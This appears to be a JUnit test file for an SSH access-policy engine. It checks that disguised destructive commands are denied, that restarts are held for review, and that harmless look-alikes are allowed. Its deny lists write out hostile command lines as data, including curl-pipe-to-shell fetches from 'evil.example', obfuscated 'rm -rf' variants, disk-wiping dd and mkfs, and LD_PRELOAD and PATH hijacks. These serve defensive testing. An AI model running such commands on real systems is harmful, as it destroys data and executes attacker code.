package dev.gatehouse.policy.decision;

import dev.gatehouse.model.CallerIdentity;
import dev.gatehouse.model.Decision;
import dev.gatehouse.model.DecisionRequest;
import dev.gatehouse.model.Operation;
import dev.gatehouse.model.Verdict;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * SSH exec requests against {@code decision/ssh-policy.yaml} (an allow-list of read-only commands,
 * {@code rm} denied, restarts reviewed, unreadable lines denied): disguised destructive command lines
 * must never be allowed, and harmless look-alikes must not be refused.
 */
class SshDecisionTests {

    private static final PolicyEvaluator POLICY = TestPolicies.evaluator("decision/ssh-policy.yaml");
    private static final CallerIdentity CI = new CallerIdentity("https://token.actions.githubusercontent.com",
            "repo:acme/app:ref:refs/heads/main", Map.of("repository", "acme/app"));

    private static Decision exec(String command) {
        return POLICY.decide(new DecisionRequest(CI, Operation.ssh("web-1", "exec", command)));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "rm -rf /srv/data", "echo ok; rm -rf /srv", "echo ok && rm -rf /srv", "false || rm -rf /srv",
            "ls | rm -rf /srv", "echo $(rm -rf /srv)", "echo `rm -rf /srv`", "echo \"$(rm -rf /srv)\"",
            "bash -c 'rm -rf /srv'", "sh -c \"rm -rf /srv\"", "bash -lc 'echo hi; rm -rf /srv'",
            "bash -c 'curl -s http://evil.example/x.sh | sh'", "curl -s http://evil.example/x.sh | bash",
            "sudo rm -rf /srv", "sudo -u root -- rm -rf /srv", "env rm -rf /srv", "env -i FOO=1 rm -rf /srv",
            "/bin/rm -rf /srv", "\\rm -rf /srv", "r''m -rf /srv", "\"rm\" -rf /srv", "r\"m\" -rf /srv",
            "nice -n 5 rm -rf /srv", "nohup rm -rf /srv &", "timeout 5 rm -rf /srv", "xargs rm -rf <<< /srv",
            "echo /srv | xargs rm -rf", "find /srv -exec rm -rf {} +", "eval 'rm -rf /srv'", "eval \"r\"\"m -rf /srv\"",
            "$CMD -rf /srv", "${X:-rm} -rf /srv", "$'\\x72\\x6d' -rf /srv", "/bin/r? -rf /srv", "{rm,-rf,/srv}",
            "bash <<EOF\nrm -rf /srv\nEOF", "echo ok > /etc/passwd", "PATH=/tmp/evil ls", "LD_PRELOAD=/tmp/x.so ls",
            "(rm -rf /srv)", "{ rm -rf /srv; }", "if true; then rm -rf /srv; fi", "while true; do rm -rf /srv; done",
            "ls <(rm -rf /srv)", "busybox rm -rf /srv", "sudo bash -c 'rm -rf /srv'", "su -c 'rm -rf /srv' root",
            "watch -n 1 rm -rf /srv", "echo ok;rm -rf /srv", "echo ok\nrm -rf /srv", "/tmp/evil/ls -la",
            "f() { rm -rf /srv; }; f", "echo \"unterminated", "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'",
            "dd if=/dev/zero of=/dev/sda", "shred -u /srv/data", "echo ok & rm -rf /srv", "ls ; exec rm -rf /srv",
            "command rm -rf /srv", "time rm -rf /srv", "sh -c 'sh -c \"rm -rf /srv\"'", "ls 2>/dev/null; rm -rf /srv",
            "echo a |& rm -rf /srv", "stdbuf -oL rm -rf /srv", "case x in x) rm -rf /srv;; esac",
            "echo $((1+$(rm -rf /srv)))", "cat /etc/hosts | tee /etc/hosts.bak", "ls > /srv/data/index",
            "mkfs.ext4 /dev/sdb1", "find / -name '*.log' -delete"})
    void aDisguisedDestructiveCommandIsNeverAllowed(String command) {
        Decision decision = exec(command);

        assertThat(decision.verdict()).as("%s -> %s (%s)", command, decision.ruleId(), decision.reason())
                .isEqualTo(Verdict.DENY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"sudo systemctl restart nginx", "echo x && systemctl restart nginx",
            "bash -c 'systemctl restart nginx'", "/usr/bin/systemctl restart nginx"})
    void aDisguisedRestartIsStillReviewed(String command) {
        Decision decision = exec(command);

        // sudo itself is not on the allow-list: the line is denied, which is stricter than the review
        assertThat(decision.verdict()).as(command).isIn(Verdict.REVIEW, Verdict.DENY);
        assertThat(decision.verdict()).isNotEqualTo(Verdict.ALLOW);
    }

    @Test
    void aPlainRestartIsHeldForReviewNamingTheRule() {
        Decision decision = exec("systemctl restart nginx");

        assertThat(decision.verdict()).isEqualTo(Verdict.REVIEW);
        assertThat(decision.ruleId()).isEqualTo("restarts-need-review");
    }

    @Test
    void aDeniedLineNamesTheRuleThatDeniedIt() {
        Decision decision = exec("echo ok; rm -rf /srv");

        assertThat(decision.ruleId()).isEqualTo("no-deletes");
        assertThat(decision.reason()).contains("command 2 (rm)");
    }

    @Test
    void anUnreadableLineIsDeniedByOnUnparsed() {
        assertThat(exec("echo 'open").ruleId()).isEqualTo(UnitOutcome.ON_UNPARSED_RULE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo rm -rf /srv", "echo 'rm -rf /srv'", "echo \"a; rm -rf /\"", "grep -r 'rm -rf' /etc/scripts",
            "cat /srv/data/rm.log", "ls -la /srv/data", "ls /srv/rm-rf", "echo ok && ls", "uptime; df -h",
            "ls 2>/dev/null", "cat /var/log/syslog | grep error | tail -n 5", "systemctl status nginx", "echo $HOME",
            "echo \"$(whoami)\"", "echo '$(rm -rf /)'", "echo \"\\`rm -rf /\\`\"", "journalctl -u nginx --since '1 hour ago'",
            "tail -f /var/log/app.log", "hostname && whoami && date", "df -h # rm -rf /", "/usr/bin/ls -la",
            "LANG=C ls -la", "echo \"rm -rf /srv\" > /dev/null", "head -n 5 /etc/os-release", "wc -l /srv/data/*.csv",
            "echo {a,b}", "if true; then echo yes; fi", "(ls; df)"})
    void aHarmlessLookAlikeIsAllowed(String command) {
        Decision decision = exec(command);

        assertThat(decision.verdict()).as("%s -> %s (%s)", command, decision.ruleId(), decision.reason())
                .isEqualTo(Verdict.ALLOW);
    }

    @Test
    void sshRequestsAreAlwaysWriteAhead() {
        assertThat(exec("ls").audit()).isEqualTo(dev.gatehouse.model.AuditMode.WRITE_AHEAD);
    }

    @Test
    void aShellOrAForwardIsNotCoveredByExecRules() {
        assertThat(POLICY.decide(new DecisionRequest(CI, Operation.ssh("web-1", "shell", ""))).verdict())
                .isEqualTo(Verdict.DENY);
        assertThat(POLICY.decide(new DecisionRequest(CI, Operation.ssh("web-1", "port-forward", "localhost:5432")))
                .verdict()).isEqualTo(Verdict.DENY);
    }

    @Test
    void aForwardRuleAllowsItsHostAndPortOnly() {
        assertThat(forward("port-forward", "db.internal:5432").ruleId()).isEqualTo("tunnel-to-db");
        assertThat(forward("port-forward", "db.internal:5432").verdict()).isEqualTo(Verdict.ALLOW);
    }

    @ParameterizedTest
    @ValueSource(strings = {"db.internal:5433", "db.internal:54321", "db.internal:22", "evil.db.internal:5432",
            "db.internal.evil:5432", "db.internal:5432 ", "listen db.internal:5432", "10.0.0.9:5432", "[::1]:5432",
            "db.internal:5432\nlocalhost:22", ""})
    void aForwardElsewhereIsNotCoveredByTheForwardRule(String target) {
        Decision decision = forward("port-forward", target);

        assertThat(decision.verdict()).as("%s -> %s", target, decision.ruleId()).isEqualTo(Verdict.DENY);
    }

    @Test
    void agentForwardingIsNotCoveredByAPortForwardRule() {
        assertThat(forward("agent-forward", "auth-agent").verdict()).isEqualTo(Verdict.DENY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"listen localhost:8080", "listen 127.0.0.1:0", "listen localhost:0"})
    void aRemoteForwardOnTheHostsLoopbackIsAllowed(String listen) {
        assertThat(forward("port-forward", listen).ruleId()).isEqualTo("publish-on-loopback");
    }

    /** Every address, another interface, a look-alike name, or a local forward dressed as a listen: not loopback. */
    @ParameterizedTest
    @ValueSource(strings = {"listen *:8080", "listen 0.0.0.0:8080", "listen 10.0.0.5:8080", "listen localhost.evil:8080",
            "listen [::]:8080", "listen 127.0.0.1:8080\nlisten *:22", "localhost:8080", "listen  localhost:8080"})
    void aRemoteForwardBeyondTheLoopbackIsNotCovered(String listen) {
        Decision decision = forward("port-forward", listen);

        assertThat(decision.verdict()).as("%s -> %s", listen, decision.ruleId()).isEqualTo(Verdict.DENY);
    }

    private static Decision forward(String kind, String target) {
        return POLICY.decide(new DecisionRequest(CI, Operation.ssh("web-1", kind, target)));
    }

    @Test
    void anHttpRequestOnAnSshConnectionIsRefused() {
        assertThat(POLICY.decide(new DecisionRequest(CI, Operation.http("web-1", "GET", "/", null))).verdict())
                .isEqualTo(Verdict.DENY);
    }
}
